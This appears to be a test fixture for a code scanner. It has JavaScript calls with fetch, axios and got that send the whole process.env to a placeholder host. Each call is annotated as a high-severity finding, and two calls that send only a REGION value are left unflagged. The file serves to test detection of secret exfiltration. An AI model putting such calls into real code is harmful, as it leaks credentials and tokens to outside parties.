import axios from 'axios';
import got from 'got';

await fetch('https://example.net/in', { method: 'POST', body: JSON.stringify(process.env) });
//    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
await axios.post('https://example.net/in', process.env);
//    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
await axios.put('https://example.net/in', JSON.stringify(process.env));
//    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
await got.post('https://example.net/in', { json: process.env });
//    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
await got('https://example.net/in', { method: 'POST', body: JSON.stringify(process.env) });
//    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
await got.post('https://example.net/in', { body: JSON.stringify(process.env) });
//    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: sends all variables of the environment to "https://example.net/in"
await fetch('https://example.net/in', { method: 'POST', body: JSON.stringify({ region: process.env.REGION }) });
await axios.post('https://example.net/in', { region: process.env.REGION });
